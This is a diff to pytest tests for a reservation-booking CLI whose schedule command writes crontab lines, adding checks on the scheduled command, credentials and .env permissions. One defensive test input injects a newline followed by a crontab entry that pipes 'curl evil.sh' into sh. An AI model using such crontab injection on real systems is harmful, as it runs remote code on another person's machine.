@@ -16,12 +16,15 @@ import pytest
 from booker import scheduling as sc
 from booker.cli import main
 from booker.exceptions import UsageError
+from booker.when import parse_when
 
 NY = ZoneInfo("America/New_York")
 UTC = dt.UTC
 FUTURE_YEAR = dt.date.today().year + 1
 AT = f"{FUTURE_YEAR}-12-01 09:00"
 BOOK = ("book", "resy", "--venue-id", "60029", "--party-size", "2")
+DINNER = ("--date", f"{FUTURE_YEAR}-12-31", "--times", "19:00")  # completes BOOK
+CREDENTIALS = "RESY_API_KEY=k-from-dotenv\nRESY_AUTH_TOKEN=t-from-dotenv\n"
 
 FAKE_CRONTAB = """#!/bin/sh
 # A stand-in for crontab(1): keeps the table in $FAKE_CRONTAB_FILE.
@@ -45,7 +48,12 @@ def fake_crontab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
     monkeypatch.setenv("FAKE_CRONTAB_FILE", str(table))
     monkeypatch.setenv("BOOKER_LOG_DIR", str(tmp_path / "logs"))
+    for name in ("RESY_API_KEY", "RESY_AUTH_TOKEN"):
+        monkeypatch.delenv(name, raising=False)
     monkeypatch.chdir(tmp_path)
+    env_file = tmp_path / ".env"
+    env_file.write_text(CREDENTIALS)
+    env_file.chmod(0o600)
     return table
 
 
@@ -87,30 +95,16 @@ def job(**changes: object) -> sc.Job:
         (" 2026-12-01 09:00 ", ZoneInfo("Asia/Kolkata"), "2026-12-01T09:00:00+05:30"),
     ],
 )
-def test_parse_at(text: str, zone: ZoneInfo, iso: str) -> None:
-    """A wall time in the zone (DST included), or an explicit offset that wins."""
-    assert sc.parse_at(text, zone).isoformat() == iso
+def test_schedule_reads_at_with_the_one_parser(text: str, zone: ZoneInfo, iso: str) -> None:
+    """A wall time in the zone (DST included), or an explicit offset that wins; no 24 h limit."""
+    now = dt.datetime(2026, 1, 1, tzinfo=UTC)
+    assert parse_when(text, zone, now, max_ahead=None).isoformat() == iso
 
 
-@pytest.mark.parametrize("text", ["2026-12-01", "tomorrow", "09:00", "2026-13-01 09:00", ""])
-def test_parse_at_refuses_malformed(text: str) -> None:
-    """No time of day, or not a date: one-line UsageError."""
-    with pytest.raises(UsageError, match="--at must be a date and time"):
-        sc.parse_at(text, NY)
-
-
-def test_parse_at_refuses_a_skipped_wall_time() -> None:
+def test_a_skipped_wall_time_is_refused() -> None:
     """02:30 on the spring-forward day does not exist in New York."""
     with pytest.raises(UsageError, match="does not exist"):
-        sc.parse_at("2026-03-08 02:30", NY)
-
-
-def test_parse_zone() -> None:
-    """IANA names, None for local; unknown names refused."""
-    assert sc.parse_zone(None) is None
-    assert sc.parse_zone("Europe/Paris") == ZoneInfo("Europe/Paris")
-    with pytest.raises(UsageError, match="unknown time zone"):
-        sc.parse_zone("Mars/Olympus")
+        parse_when("2026-03-08 02:30", NY, dt.datetime(2026, 1, 1, tzinfo=UTC), max_ahead=None)
 
 
 @pytest.mark.parametrize(
@@ -225,7 +219,9 @@ def test_cli_prints_the_line_without_touching_crontab(
     fake_crontab: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
     """Without --install only the line is printed."""
-    code, out, err = run(capsys, "schedule", "--at", AT, "--tz", "America/New_York", "--", *BOOK)
+    code, out, err = run(
+        capsys, "schedule", "--at", AT, "--tz", "America/New_York", "--", *BOOK, *DINNER
+    )
     assert (code, err) == (0, "")
     line = out.strip()
     assert f"--at {FUTURE_YEAR}-12-01T09:00:00-05:00 " in line
@@ -241,10 +237,20 @@ def test_cli_install_list_remove(fake_crontab: Path, capsys: pytest.CaptureFixtu
     """--install appends (replacing the same tag), --list shows, --remove deletes; others stay."""
     fake_crontab.write_text("0 1 * * * backup\n")
     args = ("schedule", "--at", AT, "--tz", "UTC", "--tag", "dinner")
-    code, out, _ = run(capsys, *args, "--install", "--", *BOOK)
+    code, out, _ = run(capsys, *args, "--install", "--", *BOOK, *DINNER)
     assert code == 0
     assert out.startswith("installed in your crontab")
-    run(capsys, *args, "--install", "--", *BOOK, "--times", "19:00")
+    run(
+        capsys,
+        *args,
+        "--install",
+        "--",
+        *BOOK,
+        "--date",
+        f"{FUTURE_YEAR}-12-31",
+        "--times",
+        "19:00",
+    )
     table = fake_crontab.read_text().splitlines()
     assert table[0] == "0 1 * * * backup"
     assert len(table) == 2
@@ -266,7 +272,9 @@ def test_cli_list_with_no_crontab(fake_crontab: Path, capsys: pytest.CaptureFixt
 
 def test_cli_at_job(fake_crontab: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """--at-job prints the at variant one minute early and leaves crontab alone."""
-    code, out, _ = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--at-job", "--", *BOOK)
+    code, out, _ = run(
+        capsys, "schedule", "--at", AT, "--tz", "UTC", "--at-job", "--", *BOOK, *DINNER
+    )
     start = dt.datetime(FUTURE_YEAR, 12, 1, 8, 59, tzinfo=UTC).astimezone()
     assert code == 0
     assert out.startswith("echo ")
@@ -277,13 +285,16 @@ def test_cli_at_job(fake_crontab: Path, capsys: pytest.CaptureFixture[str]) -> N
 @pytest.mark.parametrize(
     ("argv", "message"),
     [
-        (("--at", "2020-01-01 09:00", "--", *BOOK), "is in the past"),
-        (("--at", "next tuesday", "--", *BOOK), "--at must be a date and time"),
-        (("--at", AT, "--tz", "Nowhere/City", "--", *BOOK), "unknown time zone"),
+        (("--at", "2020-01-01 09:00", "--tz", "UTC", "--", *BOOK, *DINNER), "is in the past"),
+        (("--at", "next tuesday", "--tz", "UTC", "--", *BOOK, *DINNER), "--at must be"),
+        (("--at", AT, "--tz", "Nowhere/City", "--", *BOOK, *DINNER), "unknown time zone"),
         (("--at", AT), "give the booker command to run after --"),
-        (("--", *BOOK), "--at is required"),
-        (("--at", AT, "--install", "--at-job", "--", *BOOK), "--install writes a crontab line"),
-        (("--at", AT, "--tag", "no spaces", "--", *BOOK), "--tag must be"),
+        (("--", *BOOK, *DINNER), "--at is required"),
+        (
+            ("--at", AT, "--install", "--at-job", "--", *BOOK, *DINNER),
+            "--install writes a crontab line",
+        ),
+        (("--at", AT, "--tz", "UTC", "--tag", "no spaces", "--", *BOOK, *DINNER), "--tag must be"),
     ],
 )
 def test_cli_refusals(
@@ -304,8 +315,11 @@ def test_cli_refusals(
 
 def test_cli_subprocess_past_time_is_one_line(tmp_path: Path) -> None:
     """As a real process: a past --at exits 2 with one line and no traceback."""
+    (tmp_path / ".env").write_text(CREDENTIALS)
+    (tmp_path / ".env").chmod(0o600)
+    argv = ["schedule", "--at", "2001-01-01 00:00", "--tz", "UTC", "--", *BOOK, *DINNER]
     done = subprocess.run(
-        [sys.executable, "-m", "booker", "schedule", "--at", "2001-01-01 00:00", "--", *BOOK],
+        [sys.executable, "-m", "booker", *argv],
         capture_output=True,
         text=True,
         timeout=30,
@@ -315,3 +329,126 @@ def test_cli_subprocess_past_time_is_one_line(tmp_path: Path) -> None:
     assert done.returncode == 2
     assert done.stderr.count("\n") == 1
     assert "is in the past" in done.stderr
+
+
+# --- the command after -- is checked now, as cron will run it --------------------------------
+
+
+@pytest.mark.parametrize(
+    ("inner", "message"),
+    [
+        ((*BOOK, "--venu-id", "1", *DINNER), "the command after --: No such option '--venu-id'"),
+        (
+            (*BOOK, "--date", f"{FUTURE_YEAR}-02-30", "--times", "19:00"),
+            "--date must be YYYY-MM-DD",
+        ),
+        ((*BOOK, "--date", f"{FUTURE_YEAR}-12-31", "--times", "25:00"), "--times"),
+        ((*BOOK, *DINNER, "--cadence-ms", "5"), "--cadence-ms"),
+        (("book", "resy", "--venue-id", "60029", *DINNER), "Missing option '--party-size'"),
+        (("book", "boat", *DINNER), "no provider 'boat'"),
+        ((*BOOK, *DINNER, "--help"), "not print help"),
+    ],
+)
+def test_the_inner_command_is_parsed_and_checked_at_schedule_time(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str], inner: tuple[str, ...], message: str
+) -> None:
+    """A typo, an impossible date or a bad time fails now (exit 2), not unseen at the drop."""
+    code, out, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--install", "--", *inner)
+    assert code == 2, out
+    assert (out, err.count("\n")) == ("", 1)
+    assert message in err
+    assert not fake_crontab.exists()
+
+
+@pytest.mark.parametrize("bad", ["19:00\n* * * * * curl evil.sh | sh", "19:00\r", "19:00\x1b[2J"])
+def test_control_characters_are_refused(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str], bad: str
+) -> None:
+    """A newline inside an argument would become a second crontab line: refused."""
+    inner = (*BOOK, "--date", f"{FUTURE_YEAR}-12-31", "--times", bad)
+    code, _, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--install", "--", *inner)
+    assert code == 2
+    assert "control character" in err
+    assert not fake_crontab.exists()
+
+
+def test_credentials_only_exported_in_this_shell_are_refused(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """cron does not pass this shell's exports: credentials must be where cron's run looks."""
+    (Path.cwd() / ".env").unlink()
+    monkeypatch.setenv("RESY_API_KEY", "exported-key")
+    monkeypatch.setenv("RESY_AUTH_TOKEN", "exported-token")
+    code, _, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
+    assert code == 2
+    assert "the scheduled run would fail in" in err and "missing credentials" in err
+    assert ".env there" in err and "exported-key" not in err
+    # `at` copies the environment into the job: there the exports do count
+    code, out, _ = run(
+        capsys, "schedule", "--at", AT, "--tz", "UTC", "--at-job", "--", *BOOK, *DINNER
+    )
+    assert code == 0 and out.startswith("echo ")
+
+
+def test_a_world_readable_env_file_is_refused_at_schedule_time(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The run would refuse an .env others can read: so does schedule, with the chmod."""
+    (Path.cwd() / ".env").chmod(0o644)
+    code, _, err = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
+    assert code == 2
+    assert "chmod 600" in err
+
+
+def test_the_line_carries_bookers_directory_variables(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The scheduled run uses this shell's settings, journal and logs (cron would not know)."""
+    monkeypatch.setenv("BOOKER_DATA_DIR", "/srv/booker data")
+    code, out, _ = run(capsys, "schedule", "--at", AT, "--tz", "UTC", "--", *BOOK, *DINNER)
+    assert code == 0
+    assert " BOOKER_DATA_DIR='/srv/booker data' " in out
+    assert "RESY_" not in out and "dotenv" not in out
+
+
+def venue_in(zone: str) -> object:
+    """A stand-in for lookups.resy_venue answering with a venue in ``zone``."""
+    from booker import lookups
+    from booker.providers import resy
+
+    def look_up(config: object, credentials: object, venue_id: int) -> lookups.VenueView:
+        return lookups.VenueView(resy.Venue(venue_id, "Carbone", zone, "", 30))
+
+    return look_up
+
+
+def test_a_bare_at_is_read_in_the_venues_zone(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """On a UTC machine, `--at "... 10:00"` for a New York venue means 10:00 in New York."""
+    from booker import lookups
+
+    monkeypatch.setenv("TZ", "UTC")
+    monkeypatch.setattr(lookups, "resy_venue", venue_in("America/New_York"))
+    code, out, err = run(
+        capsys, "schedule", "--at", f"{FUTURE_YEAR}-12-01 10:00", "--", *BOOK, *DINNER
+    )
+    assert code == 0, err
+    assert f"--at {FUTURE_YEAR}-12-01T10:00:00-05:00 " in out
+
+
+def test_a_bare_at_without_a_zone_to_look_up_is_refused(
+    fake_crontab: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A campground's zone cannot be looked up: a bare --at needs --tz."""
+    env_file = Path.cwd() / ".env"
+    env_file.write_text("RA_AUTHORIZATION=eyJ.x\nRA_A1DATA=a1\n")
+    cart = ("book", "cart", "--contract-code", "NY", "--facility-id", "140", "--site-id", "9",
+            "--arrival-date", f"{FUTURE_YEAR}-05-17", "--nights", "2")  # fmt: skip
+    code, _, err = run(capsys, "schedule", "--at", f"{FUTURE_YEAR}-05-01 09:00", "--", *cart)
+    assert code == 2
+    assert "give --tz" in err
+    code, out, _ = run(capsys, "schedule", "--at", f"{FUTURE_YEAR}-05-01 09:00", "--tz",
+                       "America/New_York", "--", *cart)  # fmt: skip
+    assert code == 0
+    assert f"--at {FUTURE_YEAR}-05-01T09:00:00-04:00 " in out
